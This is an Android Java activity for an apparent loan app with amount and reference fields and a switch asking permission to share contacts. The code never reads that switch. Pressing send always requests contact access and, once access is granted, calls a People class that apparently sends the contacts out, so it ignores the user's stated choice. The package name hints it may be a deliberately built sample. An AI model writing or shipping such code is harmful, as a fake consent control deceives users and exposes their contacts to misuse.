package com.switchnotlookedat.app;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.widget.Button;
import android.widget.EditText;
import android.widget.LinearLayout;
import android.widget.Switch;
import android.widget.TextView;
import android.widget.Toast;

/** The application: an amount, a reference, a switch for the contacts, and one button. */
public class LoanActivity extends Activity {
    private EditText amount;
    private EditText reference;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        LinearLayout all = new LinearLayout(this);
        amount = new EditText(this);
        amount.setHint(R.string.amount);
        reference = new EditText(this);
        reference.setHint(R.string.reference);
        TextView ask = new TextView(this);
        ask.setText(R.string.ask);
        Switch allow = new Switch(this);
        allow.setText(R.string.allow);
        Button send = new Button(this);
        send.setText(R.string.send);
        send.setOnClickListener(view ->
                requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, 2));
        all.addView(amount);
        all.addView(reference);
        all.addView(ask);
        all.addView(allow);
        all.addView(send);
        setContentView(all);
    }

    @Override
    public void onRequestPermissionsResult(int requestCode, String[] names, int[] results) {
        if (results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED) {
            new People(this).send();
        }
        apply();
    }

    private void apply() {
        People.post("loans", amount.getText() + "|" + reference.getText());
        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
        finish();
    }
}
